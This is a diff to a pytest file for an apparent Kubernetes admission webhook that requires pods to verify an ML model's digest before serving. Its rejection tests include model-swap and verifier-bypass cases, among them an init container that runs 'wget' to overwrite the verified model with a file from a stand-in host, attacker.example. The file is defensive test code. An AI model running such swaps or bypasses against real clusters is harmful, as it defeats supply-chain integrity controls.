@@ -28,8 +28,16 @@ REPO = Path(__file__).resolve().parents[1]
 EXAMPLES = REPO / "examples"
 MODEL = EXAMPLES / "models" / "credit-scorer"
 ATTESTED_URI = "s3://ml-models-prod/credit-scorer/0.9.2"
-VERIFIER = "ghcr.io/mlgate/mlgate-verifier:0.1.0"
+VERIFIER = "ghcr.io/mlgate/mlgate-verifier:0.1.0@sha256:" + "5e" * 32
+MODELS_RO = {"name": "models", "mountPath": "/models", "readOnly": True}
+POD_NAMESPACE = {
+    "name": "POD_NAMESPACE",
+    "valueFrom": {"fieldRef": {"fieldPath": "metadata.namespace"}},
+}
 KSERVE_SOURCE = "internal.serving.kserve.io/storage-initializer-sourceuri"
+# As KServe's pod mutator injects them: the download volume, read-only in the server.
+KSERVE_VOLUME = "kserve-provision-location"
+KSERVE_MOUNT_RO = {"name": KSERVE_VOLUME, "mountPath": "/mnt/models", "readOnly": True}
 RELEASE = RequestInfo(username="release-bot", groups=("mlops-release-managers",))
 KSERVE = RequestInfo(username="system:serviceaccount:kserve:kserve-controller-manager")
 OWNER = {
@@ -100,7 +108,10 @@ def deployment(
     init: list[dict[str, Any]] | None = None,
     owner: dict[str, Any] | None = None,
 ) -> dict[str, Any]:
-    spec: dict[str, Any] = {"containers": containers}
+    spec: dict[str, Any] = {
+        "containers": containers,
+        "volumes": [{"name": "models", "emptyDir": {}}],
+    }
     if init:
         spec["initContainers"] = init
     meta: dict[str, Any] = {"name": "credit-llm", "namespace": "ml-prod"}
@@ -131,11 +142,25 @@ def vllm(uri: str) -> dict[str, Any]:
     }
 
 
+def served() -> dict[str, Any]:
+    """The server reading the verified copy (the shape pod-start verification requires)."""
+    return {**vllm("/models"), "volumeMounts": [dict(MODELS_RO)]}
+
+
 def verifier(expect: str, **extra: Any) -> dict[str, Any]:
     container = {
         "name": "verify-model",
         "image": VERIFIER,
-        "args": ["--model-dir", "/models", "--expect-digest", expect],
+        "args": [
+            "--model-dir",
+            "/models",
+            "--storage-uri",
+            ATTESTED_URI,
+            "--expect-digest",
+            expect,
+        ],
+        "volumeMounts": [dict(MODELS_RO)],
+        "env": [POD_NAMESPACE],
     }
     return {**container, **extra}
 
@@ -183,12 +208,10 @@ def test_an_oci_digest_is_still_content_addressed(engine: Any, digest: str) -> N
 def test_a_sidecar_verifier_does_not_gate_the_server(engine: Any, digest: str) -> None:
     """restartPolicy: Always makes an init container a sidecar: the server starts beside it,
     whether or not the check passes."""
-    ok = deployment(evidence(digest), [vllm(ATTESTED_URI)], [verifier(digest)])
+    ok = deployment(evidence(digest), [served()], [verifier(digest)])
     assert decide(engine, ok) == (True, set())
     sidecar = verifier(digest, restartPolicy="Always")
-    allowed, controls = decide(
-        engine, deployment(evidence(digest), [vllm(ATTESTED_URI)], [sidecar])
-    )
+    allowed, controls = decide(engine, deployment(evidence(digest), [served()], [sidecar]))
     assert not allowed and "SC-POD-START-VERIFY" in controls
 
 
@@ -199,11 +222,12 @@ def test_an_init_container_after_the_verifier_can_replace_the_bytes(
         "name": "swap",
         "image": "busybox:1.36",
         "command": ["sh", "-c", "wget -O /models/model.onnx http://attacker.example/m.onnx"],
+        "volumeMounts": [{"name": "models", "mountPath": "/models"}],
     }
-    obj = deployment(evidence(digest), [vllm(ATTESTED_URI)], [verifier(digest), swap])
+    obj = deployment(evidence(digest), [served()], [verifier(digest), swap])
     allowed, controls = decide(engine, obj)
     assert not allowed and "SC-POD-START-VERIFY" in controls
-    fetch_then_verify = deployment(evidence(digest), [vllm(ATTESTED_URI)], [swap, verifier(digest)])
+    fetch_then_verify = deployment(evidence(digest), [served()], [swap, verifier(digest)])
     assert decide(engine, fetch_then_verify) == (True, set())
 
 
@@ -216,8 +240,11 @@ def kserve_pod_template(digest: str, init: list[dict[str, Any]] | None = None) -
         "name": "kserve-container",
         "image": "kserve/sklearnserver:v0.14.1",
         "args": ["--model_name=credit", "--model_dir=/mnt/models"],
+        "volumeMounts": [KSERVE_MOUNT_RO],
     }
-    return deployment(annotations, [server], init, owner=OWNER)
+    obj = deployment(annotations, [server], init, owner=OWNER)
+    obj["spec"]["template"]["spec"]["volumes"] = [{"name": KSERVE_VOLUME, "emptyDir": {}}]
+    return obj
 
 
 def test_kserve_controller_child_still_counts_as_verified(kserve_engine: Any, digest: str) -> None:
@@ -261,8 +288,10 @@ def test_a_pod_with_the_injected_verifying_initializer_is_allowed(
                 "valueFrom": {
                     "fieldRef": {"fieldPath": "metadata.annotations['mlgate.io/model-digest']"}
                 },
-            }
+            },
+            POD_NAMESPACE,
         ],
+        "volumeMounts": [{"name": KSERVE_VOLUME, "mountPath": "/mnt/models"}],
     }
     owner = {**OWNER, "apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "credit-abc"}
     pod = {
@@ -285,7 +314,8 @@ OTHER = "sha256:" + "e" * 64  # the digest of the attacker's own (self-signed) m
 
 
 def _verifier_args(digest: str, args: list[str], **extra: Any) -> dict[str, Any]:
-    return {"name": "verify-model", "image": VERIFIER, "args": args, **extra}
+    base = {k: v for k, v in verifier(digest).items() if k != "args"}
+    return {**base, "args": args, **extra}
 
 
 @pytest.mark.parametrize(
@@ -303,7 +333,10 @@ def _verifier_args(digest: str, args: list[str], **extra: Any) -> dict[str, Any]
         lambda d: _verifier_args(
             d,
             ["--model-dir", "/models", "--expect-digest", d, "--storage-uri", "s3://x/m"],
-            env=[{"name": "MLGATE_MODELS", "value": json.dumps({"s3://x/m": {"digest": OTHER}})}],
+            env=[
+                {"name": "MLGATE_MODELS", "value": json.dumps({"s3://x/m": {"digest": OTHER}})},
+                POD_NAMESPACE,
+            ],
         ),
         # the kubelet keeps the last of two env entries with one name; a ConfigMap's is unseen
         lambda d: _verifier_args(
@@ -315,6 +348,7 @@ def _verifier_args(digest: str, args: list[str], **extra: Any) -> dict[str, Any]
                     "name": "MLGATE_EXPECT_DIGEST",
                     "valueFrom": {"configMapKeyRef": {"name": "c", "key": "k"}},
                 },
+                POD_NAMESPACE,
             ],
         ),
         # envFrom can supply $MLGATE_MODELS, which overrides the flag for --storage-uri
@@ -325,7 +359,10 @@ def _verifier_args(digest: str, args: list[str], **extra: Any) -> dict[str, Any]
         ),
         # the verifier image running something else, with the digest in its environment
         lambda d: _verifier_args(
-            d, ["-c", "true"], command=["sh"], env=[{"name": "MLGATE_EXPECT_DIGEST", "value": d}]
+            d,
+            ["-c", "true"],
+            command=["sh"],
+            env=[{"name": "MLGATE_EXPECT_DIGEST", "value": d}, POD_NAMESPACE],
         ),
     ],
     ids=[
@@ -340,7 +377,7 @@ def _verifier_args(digest: str, args: list[str], **extra: Any) -> dict[str, Any]
 def test_the_webhook_reads_the_digest_the_verifier_checks(
     engine: Any, digest: str, container: Any
 ) -> None:
-    obj = deployment(evidence(digest), [vllm(ATTESTED_URI)], [container(digest)])
+    obj = deployment(evidence(digest), [served()], [container(digest)])
     allowed, controls = decide(engine, obj)
     assert not allowed and "SC-POD-START-VERIFY" in controls
 
@@ -348,14 +385,15 @@ def test_the_webhook_reads_the_digest_the_verifier_checks(
 def test_the_digest_through_a_variable_and_the_entry_point_is_still_read(
     engine: Any, digest: str
 ) -> None:
-    env = [{"name": "D", "value": digest}]
-    via_var = _verifier_args(digest, ["--model-dir", "/models", "--expect-digest=$(D)"], env=env)
-    obj = deployment(evidence(digest), [vllm(ATTESTED_URI)], [via_var])
+    env = [{"name": "D", "value": digest}, POD_NAMESPACE]
+    args = ["--model-dir", "/models", "--storage-uri", ATTESTED_URI, "--expect-digest=$(D)"]
+    via_var = _verifier_args(digest, args, env=env)
+    obj = deployment(evidence(digest), [served()], [via_var])
     assert decide(engine, obj) == (True, set())
-    command = _verifier_args(
-        digest, ["verify", "--model-dir", "/m", "--expect-digest", digest], command=["mlgate"]
-    )
-    obj = deployment(evidence(digest), [vllm(ATTESTED_URI)], [command])
+    args = ["verify", "--model-dir", "/models", "--storage-uri", ATTESTED_URI,
+            "--expect-digest", digest, "--policies", "/opt/mlgate/policies"]  # fmt: skip
+    command = _verifier_args(digest, args, command=["mlgate"])
+    obj = deployment(evidence(digest), [served()], [command])
     assert decide(engine, obj) == (True, set())
 
 
